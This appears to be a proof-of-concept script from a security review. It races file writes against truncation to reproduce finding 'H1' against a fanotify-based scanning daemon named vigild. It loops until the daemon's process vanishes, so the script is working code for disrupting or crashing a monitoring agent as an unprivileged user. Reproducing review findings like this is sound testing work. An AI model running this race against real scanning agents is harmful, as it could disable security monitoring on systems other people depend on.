#!/usr/bin/python3
"""The review's H1 as an unprivileged user: write a large file (a scan starts
on close), then truncate it while the agent reads it, over and over.

attack_truncate.py DIR SECONDS SIZE_MB PIDFILE

Stops early when the process in PIDFILE (vigild) is gone. Prints "tries=N".
"""
import os
import random
import sys
import time

d, seconds, size_mb, pidfile = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
data = os.urandom(size_mb << 20)
agent = int(open(pidfile).read())
tries = 0
deadline = time.time() + seconds
while time.time() < deadline:
    try:
        os.kill(agent, 0)
    except PermissionError:
        pass  # alive (not ours to signal)
    except ProcessLookupError:
        break
    tries += 1
    path = os.path.join(d, 'f%d' % (tries % 4))
    with open(path, 'wb') as f:
        f.write(data)  # close: FAN_CLOSE_WRITE, an asynchronous scan of the whole file
    time.sleep(random.choice([0, 0.001, 0.01, 0.05, 0.1]))
    os.truncate(path, random.choice([0, 4096, len(data) // 3]))
print('tries=%d' % tries)
